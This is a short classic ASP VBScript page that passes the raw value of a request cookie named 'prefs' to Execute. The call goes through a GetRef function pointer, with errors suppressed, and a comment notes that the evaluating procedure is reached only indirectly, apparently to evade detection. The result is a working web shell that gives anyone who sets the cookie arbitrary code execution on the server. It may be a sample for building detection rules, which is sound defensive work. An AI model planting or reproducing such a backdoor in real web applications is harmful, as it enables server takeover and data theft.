<%@ Language="VBScript" %>
<%
' the evaluating procedure is only reached through a GetRef function pointer
Sub Apply(ByVal body)
    On Error Resume Next
    Execute body
End Sub

Dim handler
Set handler = GetRef("Apply")
handler Request.Cookies("prefs")
%>
